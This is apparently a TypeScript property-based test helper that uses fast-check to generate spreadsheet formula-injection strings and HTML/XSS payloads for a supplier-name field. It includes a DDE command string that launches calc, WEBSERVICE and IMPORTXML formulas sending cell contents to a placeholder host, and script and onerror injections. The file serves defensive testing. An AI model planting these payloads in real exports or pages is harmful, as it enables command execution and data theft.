import fc from "fast-check";

/** Attempts, and those that became a formula or an element of a page. */
export const compte = { essais: 0, formules: 0, balises: 0 };

const SIGNES = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=", "\"=", "'=", ";=", ",=", "\u0000=", "=\u0000", "==", "=-", "%3D", "\u2007＝"] as const;
const CHARGES = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://exemple.invalid/?\"&A1;\"Cliquez\")", "WEBSERVICE(\"https://exemple.invalid\")", "IMPORTXML(CONCAT(\"https://exemple.invalid/?v=\",A1),\"//a\")", "SPASER.TAUX(A1)", "SUM(1,1)*cmd|'/C calc'!A0", "33 1 23 45 67 89", "A1", "{1,2}", "", " ", "\n=1", ";=1", ",=1", "\";=1", "_x003D_1", "&#61;1", "]]>", "</t><f>1+1</f><t>", "\"</v></c><c r=\"A1\"><f>1</f></c>"] as const;

/** What a supplier's name may hold so that a spreadsheet runs it. */
export const amorce: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...SIGNES), fc.constantFrom(...CHARGES)).map((parts) => parts.join("")) },
  fc.tuple(fc.constantFrom(...SIGNES), fc.string({ unit: "grapheme", maxLength: 20 })).map((parts) => parts.join("")),
  fc.tuple(fc.constantFrom(...SIGNES), fc.constantFrom(...SIGNES), fc.constantFrom(...CHARGES)).map((parts) => parts.join("")),
);

export const BALISES = [
  "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</title><script>x</script>", "</style><script>x</script>", "<!-- -->", "<![CDATA[<b>]]>", "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "\" onmouseover=\"alert(1)", "' style='x:expression(1)", "&lt;b&gt;", "&#60;b&#62;", "&amp;lt;b", "<iframe srcdoc='<b>'>", "<base href=//x>", "<meta http-equiv=refresh content=0>", "<math><mi xlink:href='javascript:1'>", "<template><b>", "<", ">", "\"", "'", "`", "${1}", "{{1}}", "<b", "\u0000<b>", "＜b＞", "\u2028<b>", "<\u200bscript>", "[x](javascript:alert(1))", "![x](x)", "<plaintext>", "</body></html><b>", "<table><tr><td>", "</td></tr></table><b>",
] as const;
/** What the same text may hold so that a page runs it. */
export const balise: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...BALISES),
  fc.array(fc.oneof(fc.constantFrom(...BALISES), fc.string({ unit: "grapheme", maxLength: 6 })), { minLength: 1, maxLength: 4 }).map((parts) => parts.join("")),
);

/** One try: counted before, uncounted as a failure when it ends well. */
export async function essai(kind: "formules" | "balises", tries: number, action: () => unknown): Promise<void> {
  compte.essais += tries;
  compte[kind]++;
  await action();
  compte[kind]--;
}
